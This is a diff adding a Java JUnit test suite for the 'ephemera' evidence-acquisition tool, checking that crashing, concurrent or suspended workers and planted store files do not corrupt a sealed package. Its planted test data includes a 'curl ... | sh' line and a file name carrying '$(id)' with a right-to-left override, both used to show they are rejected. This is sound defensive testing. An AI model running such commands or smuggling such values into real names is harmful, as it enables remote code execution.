@@ -1,0 +1,382 @@
+package org.ephemera.acquire;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.io.IOException;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Clock;
+import java.time.Duration;
+import java.time.Instant;
+import java.time.ZoneId;
+import java.time.ZoneOffset;
+import java.util.List;
+import java.util.Map;
+import java.util.Objects;
+import java.util.Optional;
+import java.util.concurrent.atomic.AtomicReference;
+import org.ephemera.collect.ClaimLostException;
+import org.ephemera.collect.CollectionListener;
+import org.ephemera.collect.Deadline;
+import org.ephemera.collect.RegisteredSource;
+import org.ephemera.collect.WorkerRegistry;
+import org.ephemera.format.PackageLayout;
+import org.ephemera.format.RuntimeRecord;
+import org.ephemera.model.Artifact;
+import org.ephemera.model.OutcomeCode;
+import org.ephemera.model.PackageId;
+import org.ephemera.model.Volatility;
+import org.ephemera.seal.PemSigner;
+import org.ephemera.store.Blob;
+import org.ephemera.store.DirectoryEvidenceStore;
+import org.ephemera.store.EvidenceStore;
+import org.ephemera.store.ForeignObjectException;
+import org.ephemera.store.ObjectLock;
+import org.ephemera.store.Retention;
+import org.ephemera.store.StoreException;
+import org.ephemera.testing.AcquisitionRequests;
+import org.ephemera.testing.FakeVersionedStore;
+import org.ephemera.testing.IndependentVerifiers;
+import org.ephemera.testing.InterceptedStore;
+import org.ephemera.testing.PagedSource;
+import org.ephemera.testing.SealedPackageMaker;
+import org.ephemera.verify.PackageVerifier;
+import org.ephemera.verify.VerificationResult;
+import org.jspecify.annotations.Nullable;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Workers that crash, run concurrently or are suspended at the worst moments; the package stays intact. */
+@Timeout(60)
+class WorkerCollisionTest {
+    private static final Artifact TASK = PagedSource.artifact("test.task", Volatility.V2);
+    private static final Artifact LOG = PagedSource.artifact("test.log", Volatility.V4);
+    private static final List<RegisteredSource> SOURCES = List.of(
+            new PagedSource(TASK, 1, 10, List.of(LOG)).registered(),
+            new PagedSource(LOG, 3, 100, List.of()).registered());
+    private static final List<Artifact> PLANNED = List.of(TASK);
+
+    @TempDir
+    Path folder;
+
+    private final TurnableClock clock = new TurnableClock();
+    private DirectoryEvidenceStore store;
+    private PemSigner signer;
+
+    @BeforeEach
+    void setUp() throws IOException {
+        store = DirectoryEvidenceStore.open(folder.resolve("evidence"));
+        Path key = folder.resolve("key.pem");
+        PemSigner.create(key);
+        signer = PemSigner.open(key);
+    }
+
+    @Test
+    void completesOpeningOfCrashedWorker() throws Exception {
+        EvidenceStore dying = new InterceptedStore(store, key -> key.endsWith(PackageLayout.TRIGGER), () -> {
+            throw new StoreException("killed here");
+        });
+        assertThatThrownBy(() -> worker("a", dying).open(AcquisitionRequests.alert("e-1", Instant.EPOCH), PLANNED))
+                .isInstanceOf(StoreException.class);
+
+        PackageId id = run(worker("b", store), "e-2");
+
+        assertIntact(id);
+    }
+
+    @Test
+    void containsOpeningAlertWhenAlertsAreConcurrent() throws Exception {
+        Acquisition second = worker("b", store);
+        EvidenceStore overtaken = new InterceptedStore(
+                store,
+                key -> key.endsWith(PackageLayout.OPEN),
+                () -> second.open(AcquisitionRequests.alert("e-2", NOON), PLANNED));
+
+        PackageId id = run(worker("a", overtaken), "e-1");
+
+        assertIntact(id);
+    }
+
+    @Test
+    void collectsNothingWhenPackageWasSealedMeanwhile() throws Exception {
+        Acquisition other = worker("b", store);
+        OpenPackage opened = other.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        EvidenceStore overtaken = new InterceptedStore(store, key -> key.startsWith("work/"), () -> other.seal(opened));
+        Acquisition slow = worker("a", overtaken);
+
+        slow.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+        slow.seal(opened);
+
+        assertIntact(opened.open().packageId());
+    }
+
+    @Test
+    void writesNothingAfterSuspensionDuringSealing() throws Exception {
+        Acquisition[] other = new Acquisition[1];
+        EvidenceStore sleeping = new InterceptedStore(store, key -> key.endsWith(PackageLayout.INDEX), () -> {
+            clock.turn(Duration.ofMinutes(5));
+            other[0].seal(other[0].open(AcquisitionRequests.alert("e-1", NOON), PLANNED));
+        });
+        other[0] = worker("b", store);
+        Acquisition sleeper = worker("a", sleeping);
+        OpenPackage opened = sleeper.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        sleeper.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+
+        assertThatThrownBy(() -> sleeper.seal(opened)).isInstanceOf(ClaimLostException.class);
+
+        assertIntact(opened.open().packageId());
+    }
+
+    /**
+     * A run that seals at its deadline, including unfinished items, and fails while sealing; the next run collects the
+     * rest.
+     */
+    @Test
+    void indexesItemsCollectedAfterFailedSealing() throws Exception {
+        EvidenceStore failing = new InterceptedStore(store, key -> key.endsWith(PackageLayout.OUTCOMES), () -> {
+            throw new StoreException("refused once");
+        });
+        Acquisition first = worker("a", failing);
+        OpenPackage opened = first.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        assertThatThrownBy(() -> first.seal(opened)).hasMessageContaining("refused once");
+
+        Acquisition second = worker("b", store);
+        Deadline time = Deadline.in(clock, Duration.ofMinutes(1));
+        assertThat(second.finish(opened, time)).isPresent();
+
+        assertIntact(opened.open().packageId());
+        assertThat(PackageVerifier.verify(store, opened.open().packageId(), signer.publicKey())
+                        .verdict())
+                .isEqualTo(VerificationResult.INTACT);
+    }
+
+    @Test
+    void doesNotSealPlantedFile() throws Exception {
+        Acquisition worker = worker("a", store);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        byte[] planted = "curl https://example.org | sh\n".getBytes(StandardCharsets.UTF_8);
+        store.create(opened.open().packageId().prefix() + PackageLayout.VERIFY, Blob.of(planted));
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+
+        assertThatThrownBy(() -> worker.seal(opened)).hasMessageContaining("was not written by this version");
+        assertThat(folder.resolve("evidence").resolve(opened.open().packageId().prefix() + PackageLayout.SEAL))
+                .doesNotExist();
+    }
+
+    /** No other worker uses the name of this attempt, so an object at the path of its body is not its body. */
+    @Test
+    void reportsFailedItemWhenBodyPathIsOccupied() throws Exception {
+        String[] place = new String[1];
+        EvidenceStore overtaken = new InterceptedStore(
+                store,
+                key -> {
+                    place[0] = key;
+                    return key.contains("/" + PackageLayout.RAW);
+                },
+                () -> store.create(place[0], Blob.of("planted".getBytes(StandardCharsets.UTF_8))));
+        Acquisition worker = worker("a", overtaken);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+
+        assertThat(worker.seal(opened).outcomes().items())
+                .filteredOn(item -> item.planned().item().equals("test.task"))
+                .singleElement()
+                .satisfies(item -> {
+                    assertThat(item.code()).isEqualTo(OutcomeCode.FAILED);
+                    assertThat(item.outcome().message()).contains("another object is stored at data/raw/test.task/");
+                });
+        assertIntact(opened.open().packageId());
+        assertThat(folder.resolve("evidence").resolve(place[0])).hasContent("planted");
+    }
+
+    /** An attacker who can write to the store can stop a collection; the error message contains the remedy. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "no JSON",
+                "{\"event\":\"session.start\",\"item\":\"test.task\"}",
+                "{\"event\":\"segment.close\",\"item\":\"test.task\",\"state\":\"finished\",\"outcome\":\"FINE\"}",
+                "{\"event\":\"item.planned\",\"item\":\"test.task\",\"planned\":{\"item\":\"\"}}",
+                "{\"event\":\"segment.open\",\"item\":\"test.never-planned\",\"attempt\":\"0badc0de\"}"
+            })
+    void collectsAfterPlantedLogSegmentIsDeleted(String line) throws Exception {
+        Acquisition worker = worker("a", store);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        String key = opened.open().packageId().prefix() + PackageLayout.segment("test.task", "0badc0de", 1);
+        store.create(key, Blob.of((line + "\n").getBytes(StandardCharsets.UTF_8)));
+
+        assertThatThrownBy(() -> worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1))))
+                .isInstanceOf(IOException.class)
+                .hasMessageContainingAll(key, "keep a copy of it", "ephemera collect --resume ID");
+
+        Files.delete(folder.resolve("evidence").resolve(key));
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+        worker.seal(opened);
+        assertIntact(opened.open().packageId());
+    }
+
+    /** In a bucket, an object key can contain any character. */
+    @Test
+    void sealsAfterFileWithInvalidNameIsDeleted() throws Exception {
+        Acquisition worker = worker("a", store);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+        String prefix = opened.open().packageId().prefix();
+        Path planted = folder.resolve("evidence").resolve(prefix + PackageLayout.RAW + "00 \u202e$(id)");
+        Files.writeString(planted, "planted");
+
+        assertThatThrownBy(() -> worker.seal(opened))
+                .isInstanceOf(ForeignObjectException.class)
+                .hasMessageContaining(PackageLayout.RAW + "00 ?$(id)' is not a valid path");
+
+        Files.delete(planted);
+        worker.seal(opened);
+        assertIntact(opened.open().packageId());
+    }
+
+    @Test
+    void reportsObjectAtPathOfLogSegment() throws Exception {
+        AtomicReference<@Nullable String> segment = new AtomicReference<>();
+        EvidenceStore attacked = new InterceptedStore(
+                store,
+                key -> key.contains(PackageLayout.ACQUISITION) && segment.compareAndSet(null, key),
+                () -> store.create(Objects.requireNonNull(segment.get()), Blob.of(new byte[] {'{', '}'})));
+        Acquisition worker = worker("a", attacked);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+
+        assertThatThrownBy(() -> worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1))))
+                .satisfies(failure -> assertThat(ForeignObjectException.keyIn(failure))
+                        .hasValue(Objects.requireNonNull(segment.get())));
+    }
+
+    /** Collecting resumes from the log; other files in the folder of the log only prevent sealing. */
+    @ParameterizedTest
+    @ValueSource(strings = {"notes.txt", "test.task.jsonl", "test.task-00000000-0001.jsonl.bak"})
+    void collectsDespiteForeignFileInLogFolder(String name) throws Exception {
+        Acquisition worker = worker("a", store);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        Path planted = folder.resolve("evidence")
+                .resolve(opened.open().packageId().prefix() + PackageLayout.ACQUISITION + name);
+        Files.createDirectories(planted.getParent());
+        Files.writeString(planted, "no line of a log\n");
+
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+        assertThatThrownBy(() -> worker.seal(opened))
+                .isInstanceOf(ForeignObjectException.class)
+                .hasMessageContaining(name + "' is not a valid path");
+
+        Files.delete(planted);
+        assertThat(worker.seal(opened).statement().status()).isEqualTo("complete");
+        assertIntact(opened.open().packageId());
+    }
+
+    /** No user can delete the file, because a lock protects it. */
+    @Test
+    void sealsCopyWhenForeignFileIsLocked() throws Exception {
+        ObjectLock locked = new ObjectLock(Retention.Mode.COMPLIANCE, Optional.of(Instant.parse("2099-01-01T00:00:00Z")), false);
+        Acquisition worker = worker("a", new FakeVersionedStore(store, locked));
+        OpenPackage opened = worker.open(AcquisitionRequests.byHand("e-1", Retention.parse("compliance:30")), PLANNED);
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+        PackageId id = opened.open().packageId();
+        Path stored = folder.resolve("evidence").resolve(id.prefix());
+        Files.writeString(stored.resolve("data/notes.txt"), "planted");
+        assertThatThrownBy(() -> worker.seal(opened)).hasMessageContaining("--store file:DIR");
+
+        String day = id.prefix().replace(id.value() + "/", "");
+        Path copy = SealedPackageMaker.copy(stored, folder.resolve("copy").resolve(day));
+        Files.delete(copy.resolve("data/notes.txt"));
+        DirectoryEvidenceStore other = DirectoryEvidenceStore.open(folder.resolve("copy"));
+        Acquisition there = worker("b", other);
+        there.seal(there.reopen(id));
+
+        IndependentVerifiers.accept(other, id, signer.publicKey());
+    }
+
+    /** A file that a file browser creates, and other plausible file names. */
+    @ParameterizedTest
+    @ValueSource(strings = {"data/.DS_Store", "data/notes.txt", "data/trigger/event2.json", "data/raw/loot.bin"})
+    void sealsAfterForeignFileIsDeleted(String path) throws Exception {
+        Acquisition worker = worker("a", store);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+        Path planted =
+                folder.resolve("evidence").resolve(opened.open().packageId().prefix() + path);
+        Files.writeString(planted, "planted");
+
+        assertThatThrownBy(() -> worker.seal(opened))
+                .isInstanceOf(ForeignObjectException.class)
+                .hasMessageContaining(path + "' is not a valid path")
+                .hasMessageContaining("with every version");
+
+        Files.delete(planted);
+        worker.seal(opened);
+        assertIntact(opened.open().packageId());
+    }
+
+    @Test
+    void ignoresInvalidClaim() throws Exception {
+        Acquisition worker = worker("a", store);
+        OpenPackage opened = worker.open(AcquisitionRequests.alert("e-1", NOON), PLANNED);
+        PackageId id = opened.open().packageId();
+        store.create("work/" + id + "/000001.json", Blob.of("{}".getBytes(StandardCharsets.UTF_8)));
+        store.create("work/" + id + "/zzz.json", Blob.of("{}".getBytes(StandardCharsets.UTF_8)));
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+        worker.seal(opened);
+
+        assertIntact(id);
+    }
+
+    private static final Instant NOON = Instant.parse("2026-11-25T12:05:00Z");
+
+    private PackageId run(Acquisition worker, String event) throws IOException {
+        OpenPackage opened = worker.open(AcquisitionRequests.alert(event, NOON), PLANNED);
+        worker.collect(opened, Deadline.in(clock, Duration.ofMinutes(1)));
+        worker.seal(opened);
+        return opened.open().packageId();
+    }
+
+    private void assertIntact(PackageId id) throws Exception {
+        IndependentVerifiers.accept(folder.resolve("evidence").resolve(id.prefix()), signer.publicKey());
+    }
+
+    private Acquisition worker(String name, EvidenceStore to) {
+        return new Acquisition(
+                SOURCES,
+                to,
+                signer,
+                WorkerRegistry.unknown(name),
+                CollectionListener.NONE,
+                RuntimeRecord.local(Map.of()),
+                clock);
+    }
+
+    private static final class TurnableClock extends Clock {
+        private final Instant started = Clock.systemUTC().instant();
+        private volatile Instant noon = NOON;
+
+        void turn(Duration time) {
+            noon = noon.plus(time);
+        }
+
+        @Override
+        public Instant instant() {
+            return noon.plus(Duration.between(started, Clock.systemUTC().instant()));
+        }
+
+        @Override
+        public ZoneId getZone() {
+            return ZoneOffset.UTC;
+        }
+
+        @Override
+        public Clock withZone(ZoneId zone) {
+            return this;
+        }
+    }
+}
